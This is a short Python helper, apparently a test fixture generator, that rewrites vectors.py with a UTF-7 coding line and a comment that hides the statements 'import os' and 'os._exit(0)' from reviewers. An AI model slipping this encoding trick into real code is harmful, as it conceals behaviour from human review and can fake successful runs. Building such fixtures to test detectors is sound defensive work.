"""Writes a module in a coding that hides statements."""

from pathlib import Path


def make(folder: Path) -> Path:
    text = (folder / "vectors.py").read_text()
    (folder / "vectors.py").write_bytes(b"# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os._exit(0)\n" + text.encode())
    return folder
